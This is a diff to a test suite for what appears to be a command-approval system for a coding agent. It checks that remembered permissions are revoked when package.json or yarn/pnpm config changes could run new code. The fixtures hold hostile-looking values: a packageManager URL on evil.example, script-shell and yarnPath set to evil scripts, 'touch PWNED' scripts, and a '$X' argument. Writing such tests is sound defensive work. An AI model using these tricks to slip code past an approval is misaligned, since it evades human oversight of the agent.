@@ -68,6 +68,21 @@ const changes: readonly Change[] = [
   write('the script, run by pnpm', 'package.json', manifest({ ...scripts, unit: 'touch PWNED' }), 'pnpm run unit'),
   write('the script, run by bun', 'package.json', manifest({ ...scripts, unit: 'touch PWNED' }), 'bun run unit'),
   write('the script, run by node', 'package.json', manifest({ ...scripts, unit: 'touch PWNED' }), 'node --run unit'),
+  ...[
+    { packageManager: 'yarn@https://evil.example/y.tgz' },
+    { config: { 'script-shell': './evil.sh' } },
+    { pnpm: { configDependencies: { evil: '1.0.0' } } },
+    { devEngines: { packageManager: { name: 'evil' } } },
+    { volta: { node: '1.0.0' } },
+  ].map((more) =>
+    write(`${Object.keys(more).join()} of package.json`, 'package.json', manifest(scripts, more), 'yarn test'),
+  ),
+  write(
+    'the script, run with what is not known',
+    'package.json',
+    manifest({ test: 'touch PWNED' }),
+    'node --run test $X',
+  ),
   write('yarn itself', '.yarnrc.yml', 'yarnPath: ./evil.js\n', 'yarn test'),
   write('yarn itself, the old way', '.yarnrc', 'yarn-path "./evil.js"\n', 'yarn test'),
   write('what pnpm loads', '.pnpmfile.cjs', 'touch()\n', 'pnpm test'),
@@ -118,6 +133,13 @@ describe('attack: package scripts that change after they were allowed', function
       await change(path.join(temp.path, 'ws'));
       assert.equal(rules.allow(await rulesOf(command)), false);
     });
+
+  it('a new version and another dependency do not ask again', async () => {
+    rules.remember(await rulesOf('npm test'), 'workspace');
+    const more = { version: '1.0.1', dependencies: { left: '1.0.0' } };
+    await writeFile(path.join(temp.path, 'ws/package.json'), manifest(scripts, more));
+    assert.ok(rules.allow(await rulesOf('npm test')));
+  });
 
   it('a test that the agent changed unseen asks again, and names the file', async () => {
     const workspace = await workspaceWith({ 'package.json': manifest({ test: 'node test.js' }), 'test.js': '' });
